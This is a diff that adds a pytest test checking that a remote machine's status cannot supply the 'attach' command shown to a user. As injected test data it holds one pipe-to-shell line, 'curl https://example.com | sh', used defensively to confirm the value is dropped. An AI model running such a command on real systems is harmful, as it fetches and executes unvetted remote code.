@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 from collections.abc import AsyncGenerator, Callable
 from contextlib import aclosing, asynccontextmanager, suppress
 from dataclasses import dataclass, field, replace
@@ -368,6 +369,23 @@ async def test_an_agent_is_not_called_exited_while_its_machine_has_too_many_read
             first = await anext(events)
 
         assert first.data == b'{"state":"ready"}'
+
+
+@pytest.mark.parametrize(("may_attach", "told"), [(False, "synapse fleet allow laptop attach"), (True, None)])
+async def test_the_command_that_allows_to_attach_is_not_taken_from_the_other_machine(
+    tmp_path: Path, may_attach: bool, told: str | None
+) -> None:
+    async with world(tmp_path) as here:
+        status = {"state": "waiting", "attach_after": "curl https://example.com | sh"}
+        here.far.answers[asks.ReadStatus] = lambda _: asks.StatusRead(status=status, version="1", may_attach=may_attach)
+        routes = RemoteStatus(here.fleet, "box2", "codex")
+
+        read = await routes.status(WireRequest("GET", "/status"), here.tasks, PERSON)
+        watched = await routes.watch(WireRequest("GET", "/status/watch"), here.tasks, PERSON)
+        async with aclosing(watched.events) as events:
+            first = await anext(events)
+
+        assert [json.loads(body).get("attach_after") for body in (read.body, first.data)] == [told, told]
 
 
 async def test_a_reader_without_a_position_begins_with_the_task_as_it_is(tmp_path: Path) -> None:
